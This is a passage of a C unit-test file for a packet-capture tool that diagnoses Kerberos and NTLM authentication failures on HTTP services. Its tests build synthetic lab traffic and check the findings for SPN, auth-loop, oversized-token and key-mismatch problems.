	m->dns = kf_arena_zalloc(&r->arena, sizeof *m->dns);
	m->dns->query = alias;
	m->dns->qtype = 1;
	m->dns->n_answers = 2;
	m->dns->answers = kf_arena_zalloc(&r->arena, 2 * sizeof *m->dns->answers);
	m->dns->answers[0] = (struct kf_dns_answer_rec){ 5, alias, canon };
	m->dns->answers[1] = (struct kf_dns_answer_rec){ 1, canon, "10.0.0.20" };
}

START_TEST(t_cname_canonicalised_info)
{
	struct kf_result *r = fx_new();
	kinit(r);
	dns_cname(r, 5, "www.lab.test", "web.lab.test");
	get(r, 8, 3, C, WEB, "www.lab.test", NULL, 0, 0);
	fx_http_resp(r, 10, 3, WEB, C, 401, "Negotiate", NULL, 8);
	tgs(r, 12, "HTTP/web.lab.test", 0);
	ap_req(r, 14, 3, C, WEB, "HTTP/web.lab.test", 2);
	get(r, 14, 3, C, WEB, "www.lab.test", "Negotiate", 755, 1111);
	ap_rep_tok(r, 15, 3, WEB, C, 14);
	fx_http_resp(r, 15, 3, WEB, C, 200, "Negotiate", NULL, 14);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "cname-spn", KF_SEV_INFO), 1);
	ck_assert_uint_eq(r->n_findings, 1);
	fx_expect(r, &(struct fx_want){
			     .rule = "cname-spn",
			     .cause = "canonical-spn",
			     .sev = KF_SEV_INFO,
			     .conf = KF_CONF_CERTAIN,
			     .frames = "5,8,12,13", /* the DNS answer, the first request, the TGS exchange */
			     .client = "10.0.0.10",
			     .user = "alice@LAB.TEST",
			     .service = "HTTP/web.lab.test@LAB.TEST",
			     .server = "10.0.0.20:80",
			     .kdc = "10.0.0.2" });
	fx_free(r);
}
END_TEST

START_TEST(t_cname_alias_refused_warning)
{
	struct kf_result *r = fx_new();
	kinit(r);
	dns_cname(r, 5, "www.lab.test", "web.lab.test");
	get(r, 8, 3, C, WEB, "www.lab.test", NULL, 0, 0);
	fx_http_resp(r, 10, 3, WEB, C, 401, "Negotiate", NULL, 8);
	tgs(r, 12, "HTTP/www.lab.test", 7);
	tgs(r, 14, "HTTP/www.lab.test", 7);
	get(r, 18, 3, C, WEB, "www.lab.test", NULL, 0, 0);
	fx_http_resp(r, 19, 3, WEB, C, 401, "Negotiate", NULL, 18);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "cname-spn", KF_SEV_WARNING), 1);
	ck_assert_uint_eq(fx_count(r, "principal-unknown", 0), 0); /* folded in */
	ck_assert_uint_eq(r->n_findings, 1);
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "cname-spn",
								     .cause = "alias-spn-unknown",
								     .sev = KF_SEV_WARNING,
								     .conf = KF_CONF_CERTAIN,
								     .frames = "5,8,12,13,14,15" });
	/* wording: the command registering the alias's SPN */
	ck_assert(contains(f->remediation, "setspn -S HTTP/www.lab.test"));
	/* its own subject (the folded principal-unknown's joins it) */
	ck_assert(subj_has(f, KF_SUBJECT_CLIENT, "10.0.0.10"));
	ck_assert(subj_has(f, KF_SUBJECT_SERVICE, "HTTP/www.lab.test@LAB.TEST"));
	ck_assert(subj_has(f, KF_SUBJECT_SERVER, "10.0.0.20:80"));
	ck_assert(subj_has(f, KF_SUBJECT_KDC, "10.0.0.2"));
	fx_free(r);
}
END_TEST

START_TEST(t_cname_near_misses)
{
	/* no DNS in the capture */
	struct kf_result *r = healthy("web.lab.test", WEB, "HTTP/web.lab.test");
	fx_finish(r);
	fx_run(r, "cname-spn");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
	/* an alias whose own SPN exists: the ticket for HTTP/<alias> was issued */
	r = fx_new();
	kinit(r);
	dns_cname(r, 5, "www.lab.test", "web.lab.test");
	get(r, 8, 3, C, WEB, "www.lab.test", NULL, 0, 0);
	fx_http_resp(r, 10, 3, WEB, C, 401, "Negotiate", NULL, 8);
	tgs(r, 12, "HTTP/www.lab.test", 0);
	ap_req(r, 14, 3, C, WEB, "HTTP/www.lab.test", 2);
	get(r, 14, 3, C, WEB, "www.lab.test", "Negotiate", 755, 1111);
	ap_rep_tok(r, 15, 3, WEB, C, 14);
	fx_http_resp(r, 15, 3, WEB, C, 200, "Negotiate", NULL, 14);
	fx_finish(r);
	fx_run(r, "cname-spn");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* ---- auth-loop ----------------------------------------------------------- */

/* One attempt on connection conn from frame f: GET → 401, GET+AP-REQ → final
 * (with AP-REP when aprep). */
static void attempt(struct kf_result *r, uint64_t f, uint32_t conn, int final, bool aprep)
{
	get(r, f, conn, C, WEB, "web.lab.test", NULL, 0, 0);
	fx_http_resp(r, f + 1, conn, WEB, C, 401, "Negotiate", NULL, f);
	ap_req(r, f + 2, conn, C, WEB, "HTTP/web.lab.test", 2);
	get(r, f + 2, conn, C, WEB, "web.lab.test", "Negotiate", 755, 1111);
	if (aprep) {
		ap_rep_tok(r, f + 3, conn, WEB, C, f + 2);
	}
	fx_http_resp(r, f + 3, conn, WEB, C, final, "Negotiate", NULL, f + 2);
}

START_TEST(t_auth_loop_authorization)
{
	struct kf_result *r = fx_new();
	kinit(r);
	tgs(r, 5, "HTTP/web.lab.test", 0);
	attempt(r, 8, 3, 401, true);
	attempt(r, 20, 5, 401, true);
	attempt(r, 30, 6, 401, true);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "auth-loop", KF_SEV_ERROR), 1);
	ck_assert_uint_eq(r->n_findings, 1);
	const struct kf_finding *f = fx_find(r, "auth-loop");
	/* wording: the number of refused requests, counted */
	ck_assert(contains(f->summary, "3 requests"));
	ck_assert_int_eq(f->severity, KF_SEV_ERROR);
	ck_assert(fx_has_frame(f, 10) && fx_has_frame(f, 22) && fx_has_frame(f, 33));
	ck_assert(!fx_has_frame(f, 9)); /* the 401 before credentials is the normal offer */
	ck_assert_str_eq(f->cause, "authorization-refused");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.10"));
	ck_assert(fx_subject_is(f, KF_SUBJECT_SERVER, "10.0.0.20:80"));
	ck_assert(fx_subject_is(f, KF_SUBJECT_SERVICE, "HTTP/web.lab.test@LAB.TEST"));
	ck_assert(fx_subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST"));
	ck_assert(fx_subject_is(f, KF_SUBJECT_KDC, NULL));
	fx_free(r);
}
END_TEST

/* Through a forward proxy: requests for two sites refused by the same proxy
 * (407 after an accepted AP-REP: the proxy's authorization) are one loop, and
 * it names the proxy, not the sites' Host. */
START_TEST(t_auth_loop_proxy)
{
	struct kf_result *r = fx_new();
	kinit(r);
	tgs(r, 5, "HTTP/proxy.lab.test", 0);
	static const char *const sites[] = { "app.lab.test", "other.lab.test", "app.lab.test" };
	static const char *const uris[] = { "http://app.lab.test/", "http://other.lab.test/",
					    "http://app.lab.test/" };
	for (uint32_t i = 0; i < 3; i++) {
		uint64_t f = 8 + 10 * i;
		ap_req(r, f, 3 + i, C, PROXY8080, "HTTP/proxy.lab.test", 2);
		struct kf_http_rec *h = get(r, f, 3 + i, C, PROXY8080, sites[i], "Negotiate", 755, 1111);
		h->uri = uris[i];
		h->proxy = true;
		ap_rep_tok(r, f + 1, 3 + i, PROXY8080, C, f);
		fx_http_resp(r, f + 1, 3 + i, PROXY8080, C, 407, "Negotiate", NULL, f)->proxy = true;
	}
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "auth-loop", KF_SEV_ERROR), 1);
	const struct kf_finding *f = fx_find(r, "auth-loop");
	ck_assert_msg(contains(f->summary,
			       "the proxy 10.0.0.24:8080 (proxy.lab.test) answered 3 requests with "
			       "credentials by 407"),
		      "%s", f->summary);
	ck_assert(!contains(f->summary, "app.lab.test"));
	fx_free(r);
}
END_TEST

START_TEST(t_auth_loop_krb_errors)
{
	struct kf_result *r = fx_new();
	kinit(r);
	for (uint64_t f = 8; f <= 20; f += 12) {
		get(r, f, 3, C, WEB, "web.lab.test", NULL, 0, 0);
		fx_http_resp(r, f + 1, 3, WEB, C, 401, "Negotiate", NULL, f);
		ap_req(r, f + 2, 3, C, WEB, "HTTP/web.lab.test", 2);
		get(r, f + 2, 3, C, WEB, "web.lab.test", "Negotiate", 755, 1111);
		spnego(r, krb_err_tok(r, f + 3, 3, WEB, C, 41, f + 2), KF_NEG_REJECT);
		fx_http_resp(r, f + 3, 3, WEB, C, 401, "Negotiate", NULL, f + 2);
	}
	fx_finish(r);
	fx_run(r, "auth-loop");
	const struct kf_finding *f = fx_find(r, "auth-loop");
	ck_assert_ptr_nonnull(f);
	ck_assert_str_eq(f->cause, "ticket-rejected");
	ck_assert_int_eq(f->severity, KF_SEV_ERROR);
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_has_frame(f, 10) && fx_has_frame(f, 11) && fx_has_frame(f, 22) && fx_has_frame(f, 23));
	ck_assert(fx_subject_is(f, KF_SUBJECT_SERVICE, "HTTP/web.lab.test@LAB.TEST"));
	ck_assert(fx_subject_is(f, KF_SUBJECT_USER, NULL));
	fx_free(r);
}
END_TEST

START_TEST(t_auth_loop_near_misses)
{
	/* the normal 401 → 200 handshake */
	struct kf_result *r = healthy("web.lab.test", WEB, "HTTP/web.lab.test");
	fx_finish(r);
	fx_run(r, "auth-loop");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
	/* NTLM NEGOTIATE → 401 CHALLENGE → AUTHENTICATE → 200, twice */
	r = fx_new();
	ntlm_legs(r, 4, 1, "web.lab.test", false, 200);
	ntlm_legs(r, 10, 2, "web.lab.test", true, 200);
	fx_finish(r);
	fx_run(r, "auth-loop");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
	/* one refusal only */
	r = fx_new();
	attempt(r, 8, 3, 401, true);
	fx_finish(r);
	fx_run(r, "auth-loop");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
	/* refused twice, then let in */
	r = fx_new();
	attempt(r, 8, 3, 401, true);
	attempt(r, 20, 4, 401, true);
	attempt(r, 30, 5, 200, true);
	fx_finish(r);
	fx_run(r, "auth-loop");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
	/* requests without credentials answered 401 (no ticket) */
	r = fx_new();
	get(r, 8, 3, C, WEB, "web.lab.test", NULL, 0, 0);
	fx_http_resp(r, 9, 3, WEB, C, 401, "Negotiate", NULL, 8);
	get(r, 10, 3, C, WEB, "web.lab.test", NULL, 0, 0);
	fx_http_resp(r, 11, 3, WEB, C, 401, "Negotiate", NULL, 10);
	fx_finish(r);
	fx_run(r, "auth-loop");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* ---- token-too-large ----------------------------------------------------- */

START_TEST(t_token_too_large)
{
	struct kf_result *r = fx_new();
	kinit(r);
	get(r, 8, 3, C, WEB, "small.lab.test", NULL, 0, 78);
	fx_http_resp(r, 10, 3, WEB, C, 401, "Negotiate", NULL, 8);
	tgs(r, 12, "HTTP/small.lab.test", 0);
	ap_req(r, 14, 3, C, WEB, "HTTP/small.lab.test", 1);
	get(r, 14, 3, C, WEB, "small.lab.test", "Negotiate", 757, 1117);
	fx_http_resp(r, 15, 3, WEB, C, 400, NULL, NULL, 14);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "token-too-large", KF_SEV_ERROR), 1);
	ck_assert_uint_eq(r->n_findings, 1);
	const struct kf_finding *f = fx_find(r, "token-too-large");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	/* wording: the sizes read from the request; the server settings to raise */
	ck_assert(contains(f->summary, "757-byte") && contains(f->summary, "1117 bytes"));
	ck_assert(contains(f->remediation, "MaxFieldLength") &&
		  contains(f->remediation, "LimitRequestFieldSize") &&
		  contains(f->remediation, "large_client_header_buffers"));
	ck_assert(fx_has_frame(f, 8) && fx_has_frame(f, 14) && fx_has_frame(f, 15));
	ck_assert_str_eq(f->cause, "kerberos-token-too-large");
	ck_assert(fx_subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.10"));
	ck_assert(fx_subject_is(f, KF_SUBJECT_SERVER, "10.0.0.20:80"));
	ck_assert(fx_subject_is(f, KF_SUBJECT_SERVICE, "HTTP/small.lab.test@LAB.TEST"));
	ck_assert(fx_subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST"));
	fx_free(r);
}
END_TEST

START_TEST(t_token_too_large_likely_and_431)
{
	struct kf_result *r = fx_new();
	get(r, 14, 3, C, WEB, "small.lab.test", "Negotiate", 12000, 16500);
	fx_http_resp(r, 15, 3, WEB, C, 431, NULL, NULL, 14);
	fx_finish(r);
	fx_run(r, "token-too-large");
	const struct kf_finding *f = fx_find(r, "token-too-large");
	ck_assert_ptr_nonnull(f);
	ck_assert_int_eq(f->confidence, KF_CONF_LIKELY);
	ck_assert_int_eq(f->severity, KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "header-too-large"); /* no AP-REQ in the request */
	ck_assert(fx_has_frame(f, 14) && fx_has_frame(f, 15));
	ck_assert(fx_subject_is(f, KF_SUBJECT_SERVER, "10.0.0.20:80"));
	ck_assert(fx_subject_is(f, KF_SUBJECT_SERVICE, NULL));
	fx_free(r);
}
END_TEST

START_TEST(t_token_too_large_near_misses)
{
	/* WebDAV: NTLM AUTHENTICATE answered 400 after authenticating (Persistent-Auth) */
	struct kf_result *r = fx_new();
	get(r, 4, 1, C, WEB, "dav.example", "NTLM", 40, 150);
	fx_http_resp(r, 5, 1, WEB, C, 401, "NTLM", NULL, 4);
	get(r, 6, 1, C, WEB, "dav.example", "NTLM", 297, 505);
	fx_http_resp(r, 7, 1, WEB, C, 400, NULL, NULL, 6)->persistent_auth = "true";
	fx_finish(r);
	fx_run(r, "token-too-large");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
	/* a small NTLM request answered 400 */
	r = fx_new();
	get(r, 6, 1, C, WEB, "dav.example", "NTLM", 297, 505);
	fx_http_resp(r, 7, 1, WEB, C, 400, NULL, NULL, 6);
	fx_finish(r);
	fx_run(r, "token-too-large");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* ---- request-based-kerberos ---------------------------------------------- */

START_TEST(t_request_based)
{
	struct kf_result *r = fx_new();
	kinit(r);
	tgs(r, 8, "HTTP/web.lab.test", 0);
	for (uint64_t f = 10; f <= 16; f += 3) {
		ap_req(r, f, 3, C, WEB, "HTTP/web.lab.test", 2);
		get(r, f, 3, C, WEB, "web.lab.test", "Negotiate", 755, 1111);
		ap_rep_tok(r, f + 1, 3, WEB, C, f);
		fx_http_resp(r, f + 1, 3, WEB, C, 200, "Negotiate", NULL, f);
	}
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "request-based-kerberos", KF_SEV_INFO), 1);
	ck_assert_uint_eq(r->n_findings, 1);
	const struct kf_finding *f = fx_find(r, "request-based-kerberos");
	ck_assert(fx_has_frame(f, 10) && fx_has_frame(f, 13) && fx_has_frame(f, 16));
	ck_assert_str_eq(f->cause, "ap-req-every-request");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.10"));
	ck_assert(fx_subject_is(f, KF_SUBJECT_SERVER, "10.0.0.20:80"));
	ck_assert(fx_subject_is(f, KF_SUBJECT_SERVICE, "HTTP/web.lab.test@LAB.TEST"));
	ck_assert(fx_subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST"));
	fx_free(r);
}
END_TEST

START_TEST(t_request_based_near_misses)
{
	/* one AP-REQ per connection */
	struct kf_result *r = healthy("web.lab.test", WEB, "HTTP/web.lab.test");
	fx_finish(r);
	fx_run(r, "request-based-kerberos");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
	/* repeated AP-REQs all refused (an auth loop, not request-based auth) */
	r = fx_new();
	attempt(r, 8, 3, 401, true);
	attempt(r, 20, 3, 401, true);
	fx_finish(r);
	fx_run(r, "request-based-kerberos");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* ---- ntlm-fallback, portless-spn, ap-err-modified, cname-spn: the other causes */

/* The client got the ticket for HTTP/<host> and still sent NTLM. */
START_TEST(t_ntlm_ticket_not_used)
{
	struct kf_result *r = challenged("web2.lab.test", WEB, true);
	tgs(r, 12, "HTTP/web2.lab.test", 0);
	ntlm_legs(r, 16, 3, "web2.lab.test", true, 200);
	fx_finish(r);
	fx_run(r, "ntlm-fallback");
	ck_assert_uint_eq(fx_count(r, "ntlm-fallback", KF_SEV_WARNING), 1);
	fx_expect(r, &(struct fx_want){ .rule = "ntlm-fallback",
					.cause = "ticket-not-used",
					.sev = KF_SEV_WARNING,
					.conf = KF_CONF_LIKELY,
					.frames = "10,12,13,16,17,18,19",
					.client = "10.0.0.10",
					.user = "LAB\\alice,alice@LAB.TEST", /* NTLM's, the TGS-REP's */
					.service = "HTTP/web2.lab.test@LAB.TEST",
					.server = "10.0.0.20:80",
					.kdc = "10.0.0.2" });
	fx_free(r);
}
END_TEST

/* Kerberos worked on an earlier connection to the server (the ticket was
 * cached: no TGS in the capture); a later connection used NTLM. */
START_TEST(t_ntlm_app_chose_ntlm)
{
	struct kf_result *r = fx_new();
	get(r, 8, 3, C, WEB, "web2.lab.test", NULL, 0, 0);
	fx_http_resp(r, 10, 3, WEB, C, 401, "Negotiate", NULL, 8);
	ap_req(r, 14, 3, C, WEB, "HTTP/web2.lab.test", 2);
	get(r, 14, 3, C, WEB, "web2.lab.test", "Negotiate", 755, 1111);
	ap_rep_tok(r, 15, 3, WEB, C, 14);
	fx_http_resp(r, 15, 3, WEB, C, 200, "Negotiate", NULL, 14);
	ntlm_legs(r, 20, 4, "web2.lab.test", true, 200);
	fx_finish(r);
	fx_run(r, "ntlm-fallback");
	ck_assert_uint_eq(fx_count(r, "ntlm-fallback", KF_SEV_WARNING), 1);
	const struct kf_finding *f = fx_expect(
		r, &(struct fx_want){ .rule = "ntlm-fallback",
				      .cause = "app-chose-ntlm",
				      .sev = KF_SEV_WARNING,
				      .conf = KF_CONF_LIKELY,
				      .frames = "10,20,21,22,23",
				      .client = "10.0.0.10",
				      .user = "LAB\\alice",
				      .service = "HTTP/web2.lab.test@LAB.TEST", /* the ticket it used */
				      .server = "10.0.0.20:80",
				      .kdc = "" });
	/* wording: the earlier Kerberos connection, named but not evidence */
	ck_assert(contains(f->explanation, "from frame 8"));
	fx_free(r);
}
END_TEST

/* The client talked to the KDC (a TGT) but asked for no ticket to HTTP/<host>. */
START_TEST(t_ntlm_no_ticket_request)
{
	struct kf_result *r = challenged("web2.lab.test", WEB, true);
	ntlm_legs(r, 16, 3, "web2.lab.test", false, 401);
	fx_finish(r);
	fx_run(r, "ntlm-fallback");
	ck_assert_uint_eq(fx_count(r, "ntlm-fallback", KF_SEV_ERROR), 1); /* NTLM failed too */
	fx_expect(r, &(struct fx_want){ .rule = "ntlm-fallback",
					.cause = "no-ticket-request",
					.sev = KF_SEV_ERROR,
					.conf = KF_CONF_LIKELY,
					.user = "LAB\\alice",
					.service = "",
					.kdc = "" });
	fx_free(r);
}
END_TEST

/* A port-less ticket refused by a bare 401: no Kerberos error says why. */
START_TEST(t_portless_bare_401)
{
	struct kf_result *r = challenged("web.lab.test:8080", WEB8080, false);
	tgs(r, 12, "HTTP/web.lab.test", 0);
	ap_req(r, 14, 3, C, WEB8080, "HTTP/web.lab.test", 2);
	get(r, 14, 3, C, WEB8080, "web.lab.test:8080", "Negotiate", 755, 1111);
	fx_http_resp(r, 15, 3, WEB8080, C, 401, "Negotiate", NULL, 14);
	fx_finish(r);
	fx_run(r, "portless-spn");
	ck_assert_uint_eq(fx_count(r, "portless-spn", KF_SEV_ERROR), 1);
	fx_expect(r, &(struct fx_want){ .rule = "portless-spn",
					.cause = "undetermined",
					.sev = KF_SEV_ERROR,
					.conf = KF_CONF_LIKELY,
					.frames = "12,13,14,15",
					.user = "alice@LAB.TEST",
					.service = "HTTP/web.lab.test@LAB.TEST",
					.server = "10.0.0.20:8080" });
	fx_free(r);
}
END_TEST

/* A KDC of another realm cannot decrypt the referral TGT it is shown: the
 * inter-realm (trust) key differs. */
START_TEST(t_ap_err_trust_key)
{
	struct kf_result *r = fx_new();
	kinit(r);
	tgs(r, 3, "krbtgt/OTHER.TEST", 0); /* the referral TGT, issued by LAB.TEST */
	struct kf_message *q = fx_krb(r, 5, KF_KRB_TGS_REQ, CK, "10.0.0.3:88");
	q->krb.sname = "HTTP/web.other.test";
	q->krb.realm = "OTHER.TEST";
	q->krb.ticket = fx_ticket(r, "krbtgt/OTHER.TEST", "LAB.TEST", 18, 2);
	struct kf_message *e = fx_krb(r, 6, KF_KRB_ERROR, "10.0.0.3:88", CK);
	e->krb.error_code = 41;
	e->krb.sname = "krbtgt/OTHER.TEST";
	e->krb.realm = "OTHER.TEST";
	fx_link(r, 5, KF_KRB_TGS_REQ, 6, KF_KRB_ERROR);
	fx_finish(r);
	fx_run(r, "ap-err-modified");
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "ap-err-modified",
								     .cause = "trust-key-mismatch",
								     .sev = KF_SEV_ERROR,
								     .conf = KF_CONF_CERTAIN,
								     .frames = "5,6",
								     .user = "alice@LAB.TEST",
								     .service = "krbtgt/OTHER.TEST@LAB.TEST",
								     .kdc = "10.0.0.3" });
	/* wording: the TGS-REP that issued the referral TGT, named but not evidence */
	ck_assert(contains(f->explanation, "issued by the KDC in frame 4"));
	fx_free(r);
}
END_TEST

/* With --keytab, what opening the refused ticket showed decides the cause,
 * whatever code the service answered: the finding of a refused ticket (code)
 * whose opening had status, by another principal's key (other), or that the
 * keytab's kvno keytab_kvno of its principal did not open. */
static const struct kf_finding *keytab_case(struct kf_result **rp, int32_t code, int status, bool other,
					    uint32_t keytab_kvno, const char *cause)
{
	struct kf_result *r = rejected("web.lab.test", WEB, "HTTP/web.lab.test", code);
	struct kf_message *ap = NULL;
	for (size_t i = 0; i < r->n_messages; i++)
		if (r->messages[i].type == KF_KRB_AP_REQ)
			ap = &r->messages[i];
	ap->dec = kf_arena_zalloc(&r->arena, sizeof *ap->dec);
	struct kf_dec_ticket *d = kf_arena_zalloc(&r->arena, sizeof *d);
	ap->dec->ticket = d;
	d->status = (uint8_t)status;
	d->server = "HTTP/web.lab.test@LAB.TEST";
	d->kvno = 2;
	d->other_principal = other;
	if (status == KF_OPEN_OK) {
		d->key.principal = other ? "HTTP/old.lab.test@LAB.TEST" : "HTTP/web.lab.test@LAB.TEST";
		d->key.keytab = "web.keytab";
		d->key.kvno = 2;
		d->cname = "bob";
		d->crealm = "LAB.TEST";
	} else {
		d->n_keytab = 1;
		d->keytab_kvnos = kf_arena_zalloc(&r->arena, sizeof *d->keytab_kvnos);
		d->keytab_kvnos[0] = keytab_kvno;
		d->keytab_etypes = kf_arena_zalloc(&r->arena, sizeof *d->keytab_etypes);
		d->keytab_etypes[0] = 18;
	}
	fx_finish(r);
	fx_run(r, "ap-err-modified");
	*rp = r;
	return fx_expect(r, &(struct fx_want){ .rule = "ap-err-modified",
					       .cause = cause,
					       .sev = KF_SEV_ERROR,
					       .conf = KF_CONF_CERTAIN,
					       .frames = "14,15" });
}

START_TEST(t_ap_err_keytab_causes)
{
	struct kf_result *r;
	const struct kf_finding *f = keytab_case(&r, 41, KF_OPEN_OK, true, 0, "spn-on-other-account");
	ck_assert_str_eq(fx_subject_str(f, KF_SUBJECT_USER),
			 "alice@LAB.TEST,bob@LAB.TEST"); /* TGS-REP's, ticket's */
	fx_free(r);
	keytab_case(&r, 31, KF_OPEN_OK, false, 0, "service-reads-other-keytab");
	fx_free(r);
	f = keytab_case(&r, 31, KF_OPEN_WRONG_KEY, false, 2, "same-kvno-other-key");
	ck_assert_str_eq(fx_subject_str(f, KF_SUBJECT_USER), "alice@LAB.TEST");
	fx_free(r);
	keytab_case(&r, 41, KF_OPEN_NO_KEY, false, 1, "stale-kvno"); /* the keytab has kvno 1, the ticket 2 */
	fx_free(r);
	keytab_case(&r, 41, KF_OPEN_NO_KEY, false, 2,
		    "undetermined"); /* its kvno, not its etype: no verdict */
	fx_free(r);
}
END_TEST

/* The client presented a ticket for the canonical name it had cached (no
 * TGS-REQ in the capture). */
START_TEST(t_cname_presented_ticket)
{
	struct kf_result *r = fx_new();
	dns_cname(r, 5, "www.lab.test", "web.lab.test");
	ap_req(r, 8, 3, C, WEB, "HTTP/web.lab.test", 2);
	get(r, 8, 3, C, WEB, "www.lab.test", "Negotiate", 755, 1111);
	ap_rep_tok(r, 9, 3, WEB, C, 8);
	fx_http_resp(r, 9, 3, WEB, C, 200, "Negotiate", NULL, 8);
	fx_finish(r);
	fx_run(r, "cname-spn");
	ck_assert_uint_eq(fx_count(r, "cname-spn", KF_SEV_INFO), 1);
	fx_expect(r, &(struct fx_want){ .rule = "cname-spn",
					.cause = "canonical-spn",
					.sev = KF_SEV_INFO,
					.conf = KF_CONF_CERTAIN,
					.frames = "5,8",
					.client = "10.0.0.10",
					.service = "HTTP/web.lab.test@LAB.TEST",
					.server = "10.0.0.20:80",
					.kdc = "" });
	fx_free(r);
}
END_TEST

/* Every cause a rule of rules_http_spn.c can decide is listed in its row. */
START_TEST(t_http_spn_causes_listed)
{
	static const char *const want[][26] = {
		{ "ntlm-fallback",
		  "spn-unknown",
		  "kdc-error",
		  "server-offers-only-ntlm",
		  "ticket-not-used",
		  "app-chose-ntlm",
		  "ip-address",
		  "no-kdc-traffic",
		  "no-ticket-request",
		  "smb-spn-unknown",
		  "smb-kdc-error",
		  "smb-local-account",
		  "smb-ticket-not-used",
		  "smb-ip-address",
		  "smb-app-chose-ntlm",
		  "smb-no-server-name",
		  "smb-no-kdc-traffic",
		  "smb-no-ticket-request",
		  "bind-spn-unknown",
		  "bind-kdc-error",
		  "bind-ticket-not-used",
		  "bind-local-account",
		  "bind-ip-address",
		  "bind-app-chose-ntlm",
		  "bind-no-kdc-traffic",
		  "bind-no-ticket-request" },
		{ "portless-spn", "other-account", "same-account", "undetermined" },
		{ "ap-err-modified", "stale-kvno", "same-kvno-other-key", "spn-on-other-account",
		  "service-reads-other-keytab", "tgt-from-other-kdc", "trust-key-mismatch", "undetermined" },
		{ "cname-spn", "canonical-spn", "alias-spn-unknown" },
	};
	for (size_t i = 0; i < sizeof want / sizeof want[0]; i++) {
		const struct kf_rule *rule = kf_rule_find(want[i][0]);
		ck_assert_ptr_nonnull(rule);
		size_t n = 0;
		while (rule->info.causes[n])
			n++;
		size_t k = 1;
		for (; k < 26 && want[i][k]; k++)
			ck_assert_msg(kf_rule_cause_listed(&rule->info, want[i][k]), "%s: %s", want[i][0],
				      want[i][k]);
		ck_assert_uint_eq(n, k - 1);
	}
}
END_TEST

/* ---- causes and subjects of auth-loop, token-too-large, request-based-kerberos ---- */

/* NTLM AUTHENTICATE refused on two connections, nothing saying why. */
START_TEST(t_auth_loop_undetermined)
{
	struct kf_result *r = fx_new();
	ntlm_legs(r, 4, 1, "web.lab.test", false, 401);
	ntlm_legs(r, 10, 2, "web.lab.test", false, 401);
	fx_finish(r);
	fx_run(r, "auth-loop");
	ck_assert_uint_eq(fx_count(r, "auth-loop", KF_SEV_ERROR), 1);
	const struct kf_finding *f = fx_find(r, "auth-loop");
	ck_assert_str_eq(f->cause, "undetermined");
	ck_assert_int_eq(f->confidence, KF_CONF_LIKELY);
	/* wording: the capture cannot tell why */
	ck_assert(contains(f->explanation, "with no Kerberos token explaining why"));
	ck_assert(fx_has_frame(f, 6) && fx_has_frame(f, 7) && fx_has_frame(f, 12) && fx_has_frame(f, 13));
	ck_assert(!fx_has_frame(f, 4) && !fx_has_frame(f, 5)); /* NTLM's handshake legs */
	ck_assert(fx_subject_is(f, KF_SUBJECT_USER, "LAB\\alice"));
	ck_assert(fx_subject_is(f, KF_SUBJECT_SERVER, "10.0.0.20:80"));
	fx_free(r);
}
END_TEST

/* A front end's S4U2Proxy ticket names the user it acts for: that user is
 * the subject, not the front end's own account (its TGT's). */
START_TEST(t_auth_loop_user_is_ticket_holder)
{
	struct kf_result *r = fx_new();
	fx_krb(r, 1, KF_KRB_AS_REQ, CK, KDC)->krb.cname = "websvc";
	struct kf_message *tgt = fx_krb(r, 2, KF_KRB_AS_REP, KDC, CK);
	tgt->krb.cname = "websvc";
	tgt->krb.crealm = "LAB.TEST";
	tgt->krb.ticket = fx_ticket(r, "krbtgt/LAB.TEST", "LAB.TEST", 18, 1);
	fx_link(r, 1, KF_KRB_AS_REQ, 2, KF_KRB_AS_REP);
	struct kf_message *p = fx_krb(r, 5, KF_KRB_TGS_REQ, CK, KDC);
	p->krb.sname = "HTTP/web.lab.test";
	p->krb.realm = "LAB.TEST";
	struct kf_message *rep = fx_krb(r, 6, KF_KRB_TGS_REP, KDC, CK);
	rep->krb.cname = "bob";
	rep->krb.crealm = "LAB.TEST";
	rep->krb.ticket = fx_ticket(r, "HTTP/web.lab.test", "LAB.TEST", 18, 2);
	fx_link(r, 5, KF_KRB_TGS_REQ, 6, KF_KRB_TGS_REP);
	attempt(r, 8, 3, 401, true);
	attempt(r, 20, 4, 401, true);
	fx_finish(r);
	ck_assert_str_eq(r->stories[0].user, "websvc@LAB.TEST");
	fx_run(r, "auth-loop");
	const struct kf_finding *f = fx_find(r, "auth-loop");
	ck_assert_ptr_nonnull(f);
	ck_assert_str_eq(f->cause, "authorization-refused");
